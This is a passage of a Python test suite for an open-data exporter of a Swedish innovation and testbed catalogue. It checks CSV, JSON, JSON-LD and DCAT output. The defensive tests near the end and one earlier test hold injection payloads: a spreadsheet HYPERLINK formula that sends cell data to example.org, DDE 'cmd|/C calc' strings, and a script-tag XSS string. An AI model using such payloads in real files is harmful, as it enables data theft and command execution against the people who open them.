"""Export: the open-data files are complete, valid against their own schema and the standards' shapes.

The fixture catalogue in tests/fixtures/export is small but touches every shape the export flattens:
nested objects, lists of localised texts, a missing English text, a testbed with and one without a
place, a project with and one without funding, and relations in both directions.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import rdflib
from jsonschema import Draft202012Validator
from pyld import jsonld
from pyshacl import validate as shacl_validate
from rdflib.compare import isomorphic
from rdflib.namespace import DCTERMS, RDF, SH

from innokatalog import export
from innokatalog.load import load_catalogue
from innokatalog.model import KIND_PLURALS, Catalogue
from innokatalog.schema import SchemaSet

from .conformance import material

PROJECT = Path(__file__).resolve().parents[1]
FIXTURE = Path(__file__).parent / "fixtures" / "export" / "catalogue"
SITE = "https://catalogue.example.org/"
GENERATED = dt.datetime(2026, 11, 24, 8, 0, tzinfo=dt.UTC)
ISSUED = dt.date(2026, 1, 1)
DATA_FILES = {
    "catalogue.json",
    "units.csv",
    "testbeds.csv",
    "projects.csv",
    "contacts.csv",
    "opportunities.csv",
    "catalogue.jsonld",
}
ALL_FILES = DATA_FILES | {"catalogue.schema.json", "dcat.rdf", "dcat.jsonld"}
SCHEMA_ORG = "https://schema.org/"
DCAT = rdflib.Namespace("http://www.w3.org/ns/dcat#")  # a plain namespace: pytest probes module globals


# --- fixtures --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def schemas() -> SchemaSet:
    return SchemaSet(PROJECT / "schema")


@pytest.fixture(scope="module")
def catalogue() -> Catalogue:
    loaded = load_catalogue(FIXTURE)
    assert not loaded.findings, loaded.findings
    assert loaded.files == len(loaded.entries) == 9
    return Catalogue(loaded.entries)


@pytest.fixture(scope="module")
def documents(catalogue: Catalogue, schemas: SchemaSet) -> dict[str, bytes]:
    return export.export_documents(catalogue, schemas, SITE, GENERATED, issued=ISSUED)


@pytest.fixture(scope="module")
def catalogue_json(documents: dict[str, bytes]) -> dict[str, Any]:
    return json.loads(documents["catalogue.json"])


def by_id(document: dict[str, Any], plural: str) -> dict[str, dict[str, Any]]:
    return {entry["id"]: entry for entry in document[plural]}


def test_fixture_entries_are_valid_against_the_schemas(catalogue: Catalogue, schemas: SchemaSet) -> None:
    for item in catalogue.all():
        errors = [e.message for e in schemas.validators[item.kind].iter_errors(item.data)]
        assert not errors, (item.kind, item.id, errors)


def test_export_gives_every_file(documents: dict[str, bytes]) -> None:
    assert set(documents) == ALL_FILES
    assert all(isinstance(content, bytes) and content for content in documents.values())


def test_render_lists_the_same_files_on_the_open_data_page(
    documents: dict[str, bytes], catalogue: Catalogue, schemas: SchemaSet
) -> None:
    """The export's files and the index of the per-entry JSON files, which the page also explains."""
    from innokatalog import render

    assert export.ENTRY_INDEX in export.entry_json_documents(catalogue, schemas, SITE)
    assert {name for name, _, _ in render.OPEN_DATA_FILES} == set(documents) | {export.ENTRY_INDEX}
    assert render.OPEN_DATA_PAGE + "/" == export.OPEN_DATA_PAGE


def test_export_is_reproducible(
    catalogue: Catalogue, schemas: SchemaSet, documents: dict[str, bytes]
) -> None:
    again = export.export_documents(catalogue, schemas, SITE.rstrip("/"), GENERATED, issued=ISSUED)
    assert again == documents


def test_export_is_reproducible_across_interpreters(tmp_path: Path) -> None:
    """rdflib's default store orders by hash; the output must not depend on PYTHONHASHSEED."""
    script = (
        "import datetime as dt, hashlib, sys\n"
        "from pathlib import Path\n"
        "from innokatalog import export\n"
        "from innokatalog.load import load_catalogue\n"
        "from innokatalog.model import Catalogue\n"
        "from innokatalog.schema import SchemaSet\n"
        f"cat = Catalogue(load_catalogue(Path({str(FIXTURE)!r})).entries)\n"
        f"docs = export.export_documents(cat, SchemaSet(Path({str(PROJECT / 'schema')!r})), {SITE!r},"
        " dt.datetime(2026, 11, 24, tzinfo=dt.UTC))\n"
        "for name in sorted(docs): print(name, hashlib.sha256(docs[name]).hexdigest())\n"
    )
    outputs = set()
    for seed in ("1", "2", "3"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        result = subprocess.run(
            [sys.executable, "-c", script], env=env, capture_output=True, text=True, check=True, timeout=120
        )
        outputs.add(result.stdout)
    assert len(outputs) == 1, outputs


def test_site_url_must_be_absolute(catalogue: Catalogue, schemas: SchemaSet) -> None:
    with pytest.raises(ValueError, match="absolute"):
        export.export_documents(catalogue, schemas, "/", GENERATED)


# --- catalogue.json --------------------------------------------------------------------------------


def test_export_schema_is_a_valid_schema(schemas: SchemaSet) -> None:
    schema = json.loads((PROJECT / "schema" / export.EXPORT_SCHEMA_FILE).read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    assert schema["properties"]["schema_version"]["const"] == export.SCHEMA_VERSION
    assert schema["properties"]["licence"]["const"] == export.LICENCE


def test_catalogue_json_is_valid_against_the_published_schema(documents: dict[str, bytes]) -> None:
    schema = json.loads(documents["catalogue.schema.json"])
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    errors = [
        f"{list(e.absolute_path)}: {e.message}"
        for e in validator.iter_errors(json.loads(documents["catalogue.json"]))
    ]
    assert not errors, errors


def test_published_schema_is_the_projects_file(documents: dict[str, bytes]) -> None:
    assert documents["catalogue.schema.json"] == (PROJECT / "schema" / "export.schema.json").read_bytes()


def test_export_schema_documents_every_field_of_every_kind(schemas: SchemaSet) -> None:
    """A field added to a kind's schema must be added to the published schema too."""
    schema = json.loads((PROJECT / "schema" / export.EXPORT_SCHEMA_FILE).read_text(encoding="utf-8"))
    common = set(schema["$defs"]["entry"]["properties"])
    for kind in KIND_PLURALS:
        documented = common | set(schema["$defs"][kind]["properties"])
        missing = set(schemas.field_names(kind)) - documented
        assert not missing, (kind, missing)
        related = set(schema["$defs"][kind]["properties"]["related"].get("properties", {}))
        assert related == {key for key, _, _ in export.RELATED[kind]}, kind


def test_catalogue_json_envelope(catalogue_json: dict[str, Any]) -> None:
    assert catalogue_json["schema_version"] == export.SCHEMA_VERSION
    assert catalogue_json["generated"] == "2026-11-24T08:00:00Z"
    assert catalogue_json["site_url"] == SITE
    assert catalogue_json["counts"] == {
        "units": 3,
        "testbeds": 2,
        "projects": 2,
        "contacts": 1,
        "opportunities": 1,
    }
    assert catalogue_json["labels"]["testbed"]["status"]["active"] == {"sv": "Aktiv", "en": "Active"}
    assert catalogue_json["labels"]["testbed"]["access.cost_model"]["free"]["en"] == "Free of charge"
    assert catalogue_json["labels"]["project"]["areas"]["health-care"]["sv"] == "Hälso- och sjukvård"


def test_catalogue_json_keeps_every_field_as_written(
    catalogue: Catalogue, catalogue_json: dict[str, Any]
) -> None:
    for kind, plural in KIND_PLURALS.items():
        exported = by_id(catalogue_json, plural)
        assert list(exported) == [item.id for item in catalogue.of_kind(kind)]
        for item in catalogue.of_kind(kind):
            entry = dict(exported[item.id])
            assert entry.pop("url") == {
                "sv": f"{SITE}{plural}/{item.id}/",
                "en": f"{SITE}en/{plural}/{item.id}/",
            }
            entry.pop("related")
            assert entry == item.data


def test_catalogue_json_resolves_relations_both_ways(catalogue_json: dict[str, Any]) -> None:
    testbeds = by_id(catalogue_json, "testbeds")
    assert testbeds["openlab"]["related"] == {"used_by_projects": ["vard-hemma"]}
    assert testbeds["dataplattformen"]["related"] == {"used_by_projects": ["vard-hemma"]}
    units = by_id(catalogue_json, "units")
    assert units["innovationsenheten"]["related"] == {
        "owned_testbeds": ["dataplattformen", "openlab"],
        "owned_projects": ["vard-hemma"],
        "owned_contacts": ["testbaddar"],
        "sub_units": [],
        "partner_in": [],
        "owned_opportunities": ["stipendiet"],
    }
    assert units["region-exempel"]["related"]["sub_units"] == ["innovationsenheten"]
    assert units["region-exempel"]["related"]["owned_projects"] == ["fonden"]
    assert units["partnerbolaget"]["related"]["partner_in"] == ["vard-hemma"]
    contact = by_id(catalogue_json, "contacts")["testbaddar"]
    assert contact["related"] == {
        "way_in_to_units": ["innovationsenheten"],
        "way_in_to_testbeds": ["dataplattformen", "openlab"],
        "way_in_to_projects": ["fonden", "vard-hemma"],
        "way_in_to_opportunities": ["stipendiet"],
    }
    assert by_id(catalogue_json, "projects")["vard-hemma"]["related"] == {}


def test_catalogue_json_carries_sources_and_review_dates(catalogue_json: dict[str, Any]) -> None:
    opportunity = by_id(catalogue_json, "opportunities")["stipendiet"]
    assert opportunity["sources"] == [
        {
            "title": {
                "sv": "Exempelstadens innovationsstrategi",
                "en": "The example city's innovation strategy",
            },
            "publisher": "Exempelstaden",
            "section": "2.4 Exempel",
            "url": "https://example.org/strategi.pdf",
        }
    ]
    assert opportunity["compiled"] == "2026-11-01" and "confirmed" not in opportunity
    testbed = by_id(catalogue_json, "testbeds")["openlab"]
    assert (testbed["compiled"], testbed["confirmed"]) == ("2026-10-15", "2026-11-01")
    assert testbed["status_recorded"] == {
        "date": "2026-11-01",
        "source": {"sv": "Den ansvariga enheten", "en": "The owning unit"},
    }


def test_csv_writes_each_source_as_one_readable_citation(documents: dict[str, bytes]) -> None:
    _, rows = read_csv(documents["opportunities.csv"])
    assert rows[0]["sources"] == (
        "Exempelstaden: Exempelstadens innovationsstrategi (datum anges inte), 2.4 Exempel, "
        "https://example.org/strategi.pdf"
    )
    _, rows = read_csv(documents["units.csv"])
    assert rows[0]["sources"] == (
        "Region Exempel: Exempelregionens innovationsstrategi (2020-03-24), 4.4 Testmiljöer"
    )


def test_schema_org_names_the_sources_an_entry_is_based_on(catalogue: Catalogue) -> None:
    item = catalogue.find("opportunity", "stipendiet")
    node = export.jsonld_for(item, catalogue, SITE, "en")
    assert node["@type"] == "Grant"
    assert node["isBasedOn"] == [
        {
            "@type": "CreativeWork",
            "name": "2.4 Exempel",
            "isPartOf": {
                "@type": "CreativeWork",
                "name": "The example city's innovation strategy",
                "publisher": {"@type": "Organization", "name": "Exempelstaden"},
                "url": "https://example.org/strategi.pdf",
            },
        }
    ]


# --- CSV -------------------------------------------------------------------------------------------


def read_csv(content: bytes) -> tuple[list[str], list[dict[str, str]]]:
    assert content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark"
    reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


@pytest.mark.parametrize("kind", list(KIND_PLURALS))
def test_csv_has_one_row_per_entry(kind: str, catalogue: Catalogue, documents: dict[str, bytes]) -> None:
    header, rows = read_csv(documents[f"{KIND_PLURALS[kind]}.csv"])
    assert len(rows) == len(catalogue.of_kind(kind))
    assert [row["id"] for row in rows] == [item.id for item in catalogue.of_kind(kind)]
    assert header[:3] == ["id", "url_sv", "url_en"]
    assert len(header) == len(set(header)), "column names must be unique"
    assert {"name_sv", "name_en", "summary_sv", "summary_en", "sources"} <= set(header)
    assert {"compiled", "confirmed"} <= set(header)
    assert not [name for name in header if name.startswith("sources_")], "sources are one column"
    for row in rows:
        assert None not in row, "a row has more cells than the header"
        assert row["url_sv"] == f"{SITE}{KIND_PLURALS[kind]}/{row['id']}/"
        assert row["url_en"] == f"{SITE}en/{KIND_PLURALS[kind]}/{row['id']}/"


def test_csv_flattens_nested_fields_and_joins_lists(documents: dict[str, bytes]) -> None:
    _, testbeds = read_csv(documents["testbeds.csv"])
    openlab = {row["id"]: row for row in testbeds}["openlab"]
    assert openlab["access_cost_model"] == "free"
    assert openlab["access_steps_sv"] == "Kontakta oss; Boka en tid"
    assert openlab["access_steps_en"] == "Contact us; Book a time"
    assert openlab["audiences"] == "companies; researchers"
    assert openlab["location_coordinates_lat"] == "59.33"
    assert openlab["ethics_personal_data"] == "true"
    assert openlab["ethics_approval_needed"] == "false"
    assert openlab["links_url"] == "https://example.org/labb"
    assert openlab["links_label_en"] == "More about the lab"
    assert openlab["used_by_projects"] == "vard-hemma"
    # quotes, commas, semicolons and line breaks survive the round trip
    assert (
        openlab["summary_sv"]
        == 'Ett levande labb för nya lösningar i vården; "citat", semikolon; och komma, här.'
    )
    assert openlab["description_sv"].startswith("Första stycket.\n\nAndra stycket")
    assert openlab["description_en"] == ""

    _, projects = read_csv(documents["projects.csv"])
    project = {row["id"]: row for row in projects}["vard-hemma"]
    assert project["funding_amount_sek"] == "594204"
    assert project["funding_funder"] == "Vinnova"
    assert project["period_start"] == "2016-12"
    assert project["period_end"] == "2018-11"
    assert project["testbeds"] == "openlab; dataplattformen"
    assert project["reported_figures_value"] == "12; 30.5"
    assert project["reported_figures_source_en"] == "The example report"
    fund = {row["id"]: row for row in projects}["fonden"]
    assert fund["funding_amount_sek"] == fund["period_end"] == ""

    _, units = read_csv(documents["units.csv"])
    partner = {row["id"]: row for row in units}["partnerbolaget"]
    assert partner["name_en"] == ""
    assert partner["partner_in"] == "vard-hemma"

    _, contacts = read_csv(documents["contacts.csv"])
    contact = contacts[0]
    assert contact["channels_email"] == "testbaddar@example.org"
    assert contact["channels_visit_en"].startswith("Exempelgatan 1")
    assert contact["way_in_to_testbeds"] == "dataplattformen; openlab"


def test_csv_columns_do_not_depend_on_the_data(schemas: SchemaSet, catalogue: Catalogue) -> None:
    """An empty catalogue still gives the full header, so readers can rely on the columns."""
    empty = export.csv_document(Catalogue([]), "testbed", schemas, SITE)
    full = export.csv_document(catalogue, "testbed", schemas, SITE)
    assert empty.splitlines()[0] == full.splitlines()[0]


# --- schema.org JSON-LD ----------------------------------------------------------------------------


def no_fetching(url: str, options: Any = None) -> Any:
    raise AssertionError(f"JSON-LD processing tried to fetch {url}")


def expand(document: dict[str, Any]) -> list[dict[str, Any]]:
    dropped: list[Any] = []
    expanded = jsonld.expand(document, {"documentLoader": no_fetching}, on_property_dropped=dropped.append)
    assert not dropped, f"properties not mapped to IRIs: {dropped}"
    return expanded


def test_catalogue_jsonld_expands_offline_to_schema_org(
    catalogue: Catalogue, documents: dict[str, bytes]
) -> None:
    graph = json.loads(documents["catalogue.jsonld"])
    assert graph["@context"] == {"@vocab": SCHEMA_ORG}
    expanded = expand(graph)
    nodes = {node["@id"]: node for node in expanded if "@type" in node and node["@id"].startswith(SITE)}
    assert set(nodes) == {f"{SITE}{item.url}" for item in catalogue.all()}
    types = {node_id: set(node["@type"]) for node_id, node in nodes.items()}
    assert types[f"{SITE}testbeds/openlab/"] == {f"{SCHEMA_ORG}Place", f"{SCHEMA_ORG}Service"}
    assert types[f"{SITE}testbeds/dataplattformen/"] == {f"{SCHEMA_ORG}Service"}
    assert types[f"{SITE}projects/vard-hemma/"] == {f"{SCHEMA_ORG}ResearchProject"}
    assert types[f"{SITE}contacts/testbaddar/"] == {f"{SCHEMA_ORG}ContactPoint"}
    assert types[f"{SITE}units/region-exempel/"] == {f"{SCHEMA_ORG}Organization"}
    names = nodes[f"{SITE}testbeds/openlab/"][f"{SCHEMA_ORG}name"]
    assert {"@value": "The open lab", "@language": "en"} in names
    assert {"@value": "Öppna labbet", "@language": "sv"} in names


@pytest.mark.parametrize("lang", ["sv", "en"])
@pytest.mark.parametrize("kind", list(KIND_PLURALS))
def test_jsonld_for_every_page(kind: str, lang: str, catalogue: Catalogue, schemas: SchemaSet) -> None:
    for item in catalogue.of_kind(kind):
        data = export.jsonld_for(item, catalogue, SITE, lang, schemas=schemas)
        url = f"{SITE}{item.url}" if lang == "sv" else f"{SITE}en/{item.url}"
        assert data["@id"] == url
        assert data["inLanguage"] == lang
        assert data["@context"] == {"@vocab": SCHEMA_ORG}
        expanded = expand(data)
        assert all(t.startswith(SCHEMA_ORG) for node in expanded for t in node.get("@type", []))
        json.dumps(data)  # plain JSON data, ready to embed


def test_jsonld_for_uses_the_language_with_swedish_fallback(catalogue: Catalogue) -> None:
    testbed = catalogue.find("testbed", "openlab")
    assert export.jsonld_for(testbed, catalogue, SITE, "en")["name"] == "The open lab"
    assert export.jsonld_for(testbed, catalogue, SITE, "sv")["name"] == "Öppna labbet"
    partner = catalogue.find("unit", "partnerbolaget")
    assert export.jsonld_for(partner, catalogue, SITE, "en")["name"] == "Partnerbolaget"
    with pytest.raises(ValueError):
        export.jsonld_for(testbed, catalogue, SITE, "de")


def test_jsonld_testbed_has_a_place_only_where_known(catalogue: Catalogue, schemas: SchemaSet) -> None:
    place = export.jsonld_for(catalogue.find("testbed", "openlab"), catalogue, SITE, "en", schemas=schemas)
    assert place["@type"] == ["Place", "Service"]
    assert place["address"] == {
        "@type": "PostalAddress",
        "addressLocality": "Stockholm",
        "streetAddress": "Exempelgatan 1",
        "addressCountry": "SE",
    }
    assert place["containedInPlace"]["name"] == "Stockholm"
    assert place["geo"] == {"@type": "GeoCoordinates", "latitude": 59.33, "longitude": 18.06}
    assert place["provider"]["@id"] == f"{SITE}en/units/innovationsenheten/"
    assert place["serviceType"] == "Living lab"
    assert place["isAccessibleForFree"] is True
    digital = export.jsonld_for(catalogue.find("testbed", "dataplattformen"), catalogue, SITE, "en")
    assert digital["@type"] == "Service"
    assert not {"address", "containedInPlace", "geo", "isAccessibleForFree"} & set(digital)


def test_jsonld_project_has_funder_and_grant(catalogue: Catalogue) -> None:
    project = export.jsonld_for(catalogue.find("project", "vard-hemma"), catalogue, SITE, "sv")
    assert project["@type"] == "ResearchProject"
    assert project["funder"] == {"@type": "Organization", "name": "Vinnova"}
    grant = project["funding"]
    assert grant["@type"] == "MonetaryGrant"
    assert grant["amount"] == {"@type": "MonetaryAmount", "value": 594204, "currency": "SEK"}
    assert grant["identifier"] == "2016-04507"
    assert project["foundingDate"] == "2016-12"
    assert [ref["@id"] for ref in project["location"]] == [f"{SITE}testbeds/openlab/"]
    member_names = [member["name"] for member in project["member"]]
    assert member_names == ["Partnerbolaget", "Exempelkoordinatorn", "Exempeluniversitetet"]
    programme = export.jsonld_for(catalogue.find("project", "fonden"), catalogue, SITE, "sv")
    assert programme["@type"] == "Project"
    assert "funder" not in programme and "funding" not in programme


def test_jsonld_contact_point_and_unit(catalogue: Catalogue, schemas: SchemaSet) -> None:
    contact = export.jsonld_for(
        catalogue.find("contact", "testbaddar"), catalogue, SITE, "en", schemas=schemas
    )
    assert contact["@type"] == "ContactPoint"
    assert contact["email"] == "testbaddar@example.org"
    assert contact["telephone"] == "+46 8-123 456 78"
    assert contact["url"] == "https://example.org/testbaddar"
    assert contact["contactType"] == ["Access to testbeds", "Innovation partnership"]
    # the languages every testbed behind the contact path works in
    assert contact["availableLanguage"] == ["sv"]
    unit = export.jsonld_for(catalogue.find("unit", "innovationsenheten"), catalogue, SITE, "sv")
    assert unit["@type"] == "Organization"
    assert unit["parentOrganization"] == {
        "@type": "Organization",
        "@id": f"{SITE}units/region-exempel/",
        "name": "Region Stockholm",
    }
    assert unit["contactPoint"]["@id"] == f"{SITE}contacts/testbaddar/"


def test_script_json_cannot_end_the_script_element() -> None:
    text = export.script_json({"name": "</script><script>alert(1)</script> & <!--"})
    assert "<" not in text and ">" not in text and "&" not in text
    assert json.loads(text)["name"] == "</script><script>alert(1)</script> & <!--"


# --- DCAT-AP-SE ------------------------------------------------------------------------------------


def conformance_file(name: str) -> Path:
    """A file of the DCAT-AP shapes (conformance material: skipped where absent, see conformance.py)."""
    path = material("dcat-ap") / name
    assert path.is_file(), f"conformance material incomplete: {path} is missing"
    return path


@pytest.fixture(scope="module")
def dcat(documents: dict[str, bytes]) -> rdflib.Graph:
    return rdflib.Graph().parse(data=documents["dcat.rdf"], format="xml")


def shacl_results(data: rdflib.Graph, shapes_file: str) -> list[tuple[str, str, str, str]]:
    shapes = rdflib.Graph().parse(conformance_file(shapes_file))
    background = rdflib.Graph().parse(conformance_file("background.ttl"))
    _, report, _ = shacl_validate(data, shacl_graph=shapes, ont_graph=background, inference="rdfs")
    return [
        (
            str(report.value(result, SH.resultSeverity)).rsplit("#", 1)[-1],
            str(report.value(result, SH.focusNode)),
            str(report.value(result, SH.resultPath)),
            str(report.value(result, SH.resultMessage)),
        )
        for result in report.subjects(RDF.type, SH.ValidationResult)
    ]


@pytest.mark.parametrize("shapes_file", ["shapes.ttl", "range.ttl", "dcat-ap-se-3.0.1.ttl"])
def test_dcat_has_no_violations(dcat: rdflib.Graph, shapes_file: str) -> None:
    violations = [r for r in shacl_results(dcat, shapes_file) if r[0] == "Violation"]
    assert not violations, violations


def test_dcat_meets_the_recommended_shapes(dcat: rdflib.Graph) -> None:
    """All recommended properties are there; the one gap is the end of a period that has none yet."""
    results = shacl_results(dcat, "shapes_recommended.ttl")
    assert results == [
        ("Warning", f"{SITE}data/dcat.rdf#period", str(DCAT.endDate), results[0][3] if results else "")
    ]


def test_dcat_meets_the_recommended_shapes_when_all_projects_have_ended(schemas: SchemaSet) -> None:
    ended = Catalogue([e for e in load_catalogue(FIXTURE).entries if e.id != "fonden"])
    documents = export.export_documents(ended, schemas, SITE, GENERATED, issued=ISSUED)
    graph = rdflib.Graph().parse(data=documents["dcat.rdf"], format="xml")
    assert shacl_results(graph, "shapes_recommended.ttl") == []
    assert shacl_results(graph, "deprecateduris.ttl") == []


@pytest.mark.filterwarnings("ignore:ConjunctiveGraph is deprecated:DeprecationWarning")
def test_dcat_jsonld_is_the_same_description(documents: dict[str, bytes], dcat: rdflib.Graph) -> None:
    expand(json.loads(documents["dcat.jsonld"]))  # no remote context
    from_jsonld = rdflib.Graph().parse(data=documents["dcat.jsonld"], format="json-ld")
    assert isomorphic(from_jsonld, dcat)


def test_dcat_names_every_data_file(dcat: rdflib.Graph, documents: dict[str, bytes]) -> None:
    dataset = dcat.value(predicate=RDF.type, object=DCAT.Dataset)
    distributions = list(dcat.objects(dataset, DCAT.distribution))
    downloads = {str(dcat.value(d, DCAT.downloadURL)): d for d in distributions}
    assert set(downloads) == {f"{SITE}data/{name}" for name in DATA_FILES}
    for name in DATA_FILES:
        distribution = downloads[f"{SITE}data/{name}"]
        assert dcat.value(distribution, DCAT.accessURL) == rdflib.URIRef(f"{SITE}data/{name}")
        assert int(dcat.value(distribution, DCAT.byteSize)) == len(documents[name])
        assert dcat.value(distribution, DCTERMS.license) == rdflib.URIRef(export.LICENCE)
        assert (dcat.value(distribution, DCTERMS.format), RDF.type, DCTERMS.MediaTypeOrExtent) in dcat
        assert (dcat.value(distribution, DCAT.mediaType), RDF.type, DCTERMS.MediaType) in dcat
    schema_url = rdflib.URIRef(f"{SITE}data/catalogue.schema.json")
    assert (dataset, DCTERMS.conformsTo, schema_url) in dcat
    assert (downloads[f"{SITE}data/catalogue.json"], DCTERMS.conformsTo, schema_url) in dcat


def test_dcat_lists_only_files_that_exist(catalogue: Catalogue) -> None:
    graph = export.dcat_graph(catalogue, SITE, GENERATED, {"catalogue.json": b"{}"})
    downloads = {str(url) for url in graph.objects(None, DCAT.downloadURL)}
    assert downloads == {f"{SITE}data/catalogue.json"}


def test_dcat_catalogue_and_publisher(dcat: rdflib.Graph) -> None:
    catalog = dcat.value(predicate=RDF.type, object=DCAT.Catalog)
    titles = {(t.language, str(t)) for t in dcat.objects(catalog, DCTERMS.title)}
    assert titles == {("sv", "Testbäddar och innovation"), ("en", "Testbeds and innovation")}
    publisher = dcat.value(catalog, DCTERMS.publisher)
    assert str(dcat.value(publisher, rdflib.FOAF.name)) == "Region Stockholm"
    assert dcat.value(publisher, DCTERMS.type) == rdflib.URIRef(
        "http://purl.org/adms/publishertype/RegionalAuthority"
    )
    dataset = dcat.value(catalog, DCAT.dataset)
    contact = dcat.value(dataset, DCAT.contactPoint)
    assert str(dcat.value(contact, rdflib.URIRef("http://www.w3.org/2006/vcard/ns#hasEmail"))).endswith(
        "@example.org"
    )
    assert str(dcat.value(dataset, DCAT.landingPage)) == f"{SITE}oppna-data/"
    languages = set(dcat.objects(dataset, DCTERMS.language))
    assert languages == {
        rdflib.URIRef("http://publications.europa.eu/resource/authority/language/SWE"),
        rdflib.URIRef("http://publications.europa.eu/resource/authority/language/ENG"),
    }


# --- writing ---------------------------------------------------------------------------------------


def test_write_exports_writes_every_file(tmp_path: Path, documents: dict[str, bytes]) -> None:
    out = tmp_path / "public" / "data"
    export.write_exports(documents, out)
    assert {path.name for path in out.iterdir()} == set(documents)
    for name, content in documents.items():
        assert (out / name).read_bytes() == content
    export.write_exports({"catalogue.json": b"new\n"}, out)
    assert (out / "catalogue.json").read_bytes() == b"new\n"
    assert {path.name for path in out.iterdir()} == set(documents), "no temporary files are left"


def test_write_exports_keeps_the_old_file_when_a_write_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    export.write_exports({"catalogue.json": b"old\n"}, tmp_path)

    def broken_replace(source: Any, target: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(export.os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        export.write_exports({"catalogue.json": b"new\n"}, tmp_path)
    assert (tmp_path / "catalogue.json").read_bytes() == b"old\n"
    assert [path.name for path in tmp_path.iterdir()] == ["catalogue.json"]


@pytest.mark.parametrize("name", ["../escape.json", "sub/dir.json"])
def test_write_exports_refuses_paths(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError):
        export.write_exports({name: b"x"}, tmp_path / "data")


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The export fixture catalogue and the project's schemas in a temporary working folder."""
    import shutil

    monkeypatch.chdir(tmp_path)
    shutil.copytree(FIXTURE, tmp_path / "catalogue")
    shutil.copytree(PROJECT / "schema", tmp_path / "schema")
    return tmp_path


def run_cli(*args: str) -> Any:
    from click.testing import CliRunner

    from innokatalog.cli import main

    return CliRunner().invoke(main, list(args))


def test_export_command_writes_the_files_alone(project: Path) -> None:
    result = run_cli("export", "-o", "out/data", "--site-url", SITE)
    assert result.exit_code == 0, result.output
    assert {p.name for p in (project / "out" / "data").iterdir()} == ALL_FILES
    document = json.loads((project / "out" / "data" / "catalogue.json").read_text(encoding="utf-8"))
    assert document["site_url"] == SITE
    assert len(document["units"]) == len(list((project / "catalogue" / "units").glob("*.yml")))


def test_export_command_refuses_an_invalid_catalogue_and_writes_nothing(project: Path) -> None:
    unit = next((project / "catalogue" / "units").glob("*.yml"))
    unit.write_text(unit.read_text(encoding="utf-8") + "colour: blue\n", encoding="utf-8")
    result = run_cli("export", "-o", "out")
    assert result.exit_code == 1
    assert "colour" in result.output and "Traceback" not in result.output
    assert not (project / "out").exists()


def test_export_command_wants_an_absolute_site_url(project: Path) -> None:
    result = run_cli("export", "--site-url", "/relative/")
    assert result.exit_code == 2
    assert "absolute" in result.output


# --- CSV cells are never formulas ----------------------------------------------------------------------

HOSTILE = Path(__file__).parent / "fixtures" / "hostile" / "catalogue"


@pytest.fixture(scope="module")
def hostile_csv(schemas: SchemaSet) -> dict[str, dict[str, dict[str, str]]]:
    """The CSV files of a valid catalogue whose texts begin with formulas: plural → id → column → cell."""
    from innokatalog.validate import Options, validate

    loaded = load_catalogue(HOSTILE)
    assert not [f for f in validate(loaded, schemas, Options()) if f.is_error]  # such texts pass validation
    documents = export.export_documents(Catalogue(loaded.entries), schemas, SITE, GENERATED, issued=ISSUED)
    return {
        plural: {row["id"]: row for row in read_csv(documents[f"{plural}.csv"])[1]}
        for plural in ("units", "contacts")
    }


def test_csv_cells_that_begin_like_a_formula_get_an_apostrophe(hostile_csv) -> None:
    unit, contact = hostile_csv["units"]["formelbolaget"], hostile_csv["contacts"]["formelkanalen"]
    expected = {
        (unit["name_sv"], '=HYPERLINK("https://example.org/?d="&A1,"Klicka")'),
        (unit["name_en"], "+SUM(1+1)*cmd|' /C calc'!A0"),
        (unit["summary_sv"], "-2+3+cmd|' /C calc'!A0"),
        (unit["summary_en"], "@SUM(1+1)"),
        (unit["tags"], "\t=1+1; vanlig"),
        (contact["name_sv"], "\r=1+1"),
        (contact["summary_sv"], "- en punkt i en lista, inte en formel"),
        (contact["summary_en"], "=1+1"),
    }
    for cell, text in expected:
        assert cell == "'" + text


def test_csv_keeps_phone_numbers_and_plain_cells_as_written(hostile_csv) -> None:
    contact = hostile_csv["contacts"]["formelkanalen"]
    assert contact["channels_phone"] == "+46 8 123 456 78"
    assert contact["name_en"] == "Formula channel"
    assert contact["response_days"] == "5"


def test_spreadsheet_safe_rule() -> None:
    phone = export._phone_format("contact", SchemaSet(PROJECT / "schema"))["channels_phone"]
    assert export.spreadsheet_safe("-12") == "-12"
    assert export.spreadsheet_safe("+3.5") == "+3.5"
    assert export.spreadsheet_safe("+46 8 123 456 78") == "'+46 8 123 456 78"  # outside a phone column
    assert export.spreadsheet_safe("+46 8 123 456 78", phone) == "+46 8 123 456 78"
    assert export.spreadsheet_safe("+46 8 123; =1+1", phone) == "'+46 8 123; =1+1"
    assert export.spreadsheet_safe("=1+1", phone) == "'=1+1"
    assert export.spreadsheet_safe("a=1") == "a=1"
    assert export.spreadsheet_safe("") == ""


@pytest.mark.parametrize(
    ("lang", "tab", "carriage_return"), [("sv", "tabb", "vagnretur"), ("en", "a tab", "a carriage return")]
)
def test_the_open_data_page_states_the_spreadsheet_rule(lang: str, tab: str, carriage_return: str) -> None:
    from html import unescape

    from innokatalog.render import Renderer

    from .mini import mini_catalogue

    html = unescape(Renderer(mini_catalogue(), SchemaSet(PROJECT / "schema"), lang).open_data_page().html)
    rule = html[html.index('id="spreadsheets"') :]
    named = {"\t": tab, "\r": carriage_return}
    for start in export.FORMULA_STARTS:
        assert f"{named.get(start, start)}," in rule or f"{named.get(start, start)} " in rule, start
    assert "(')" in rule and "+46 8 123 456 78" in rule and "-12" in rule


@pytest.mark.parametrize(
    ("lang", "root", "feeds"), [("sv", "../", "/feeds/"), ("en", "../../", "/en/feeds/")]
)
def test_the_open_data_page_lists_the_entry_json_the_feeds_and_the_pages_for_reuse(
    lang: str, root: str, feeds: str
) -> None:
    from innokatalog.render import EMBED_PAGE_TEXTS, REVIEW_TEXTS, SUBSCRIBE_TEXTS, Renderer

    from .mini import mini_catalogue

    catalogue = mini_catalogue()
